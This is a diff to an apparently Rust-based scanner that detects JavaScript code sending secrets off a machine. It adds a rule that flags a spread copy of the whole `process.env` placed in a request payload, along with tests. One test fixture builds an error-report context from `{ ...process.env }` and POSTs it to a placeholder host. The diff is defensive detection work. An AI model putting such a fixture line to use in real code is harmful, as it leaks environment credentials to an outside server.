@@ -524,6 +524,20 @@ fn auth_key(k: &str) -> bool {
     )
 }
 
+/// Under an `env` key, the environment itself (`{ env: process.env }`, `{ env: { ...process.env
+/// } }`) is what a process start is given; as the payload of a request it is theft.
+fn whole_env_value(e: &Expression) -> bool {
+    match e.without_parentheses() {
+        Expression::ObjectExpression(o) => o.properties.iter().any(|p| {
+            matches!(p, ObjectPropertyKind::SpreadProperty(s)
+                if matches!(s.argument.without_parentheses(), Expression::StaticMemberExpression(m)
+                    if m.property.name == "env"
+                        && matches!(m.object.without_parentheses(), Expression::Identifier(o) if o.name == "process")))
+        }),
+        _ => false,
+    }
+}
+
 /// Calls that send data out of the machine.
 fn is_sink(p: &str) -> bool {
     if crate::rules::network::is_net_call(p) {
@@ -1066,9 +1080,11 @@ impl Tracker<'_, '_> {
                     match p {
                         ObjectPropertyKind::ObjectProperty(p) => {
                             // `{ env }`, `{ env: grabbed }`: a variable the code filled with
-                            // secrets field by field, not settings handed to a client
+                            // secrets field by field, or `{ env: { ...process.env } }`, a copy
+                            // of the whole environment; not settings handed to a client
                             // (`{ env: process.env }`, `{ env }` of a variable aliasing it).
-                            let own_copy = matches!(&p.value, Expression::Identifier(id) if self.filled.contains(id.name.as_str()));
+                            let own_copy = matches!(&p.value, Expression::Identifier(id) if self.filled.contains(id.name.as_str()))
+                                || whole_env_value(&p.value);
                             if p.key.static_name().is_some_and(|k| auth_key(&k)) && !own_copy {
                                 continue;
                             }
@@ -1840,6 +1856,14 @@ if (keys.length) {
 const env = "production"; fetch("https://h.example", { method: "POST", body: JSON.stringify({ env }) });
 function opts(o) { const env = o.env || process.env; return { env, argv: [] }; } fetch(opts({}).argv);"#;
         assert!(flows(settings).is_empty(), "{:?}", flows(settings));
+        // A copy of the whole environment in an error report's context is the environment.
+        let report = r#"function ctx() { return { runtime: { argv: process.argv, env: { ...process.env } } }; }
+fetch("https://h.example/e", { method: "POST", body: JSON.stringify({ contexts: ctx() }) });"#;
+        assert_eq!(flows(report).first().map(|f| f.0), Some(Source::Secrets));
+        // The same copy handed to a process start sends nothing.
+        let spawn = r#"const cp = require("child_process"); const opts = { env: { ...process.env, A: "1" } };
+cp.spawn("node", ["x.js"], opts); fetch("https://h.example/p", { method: "POST", body: "ping" });"#;
+        assert!(flows(spawn).is_empty(), "{:?}", flows(spawn));
     }
 
     #[test]
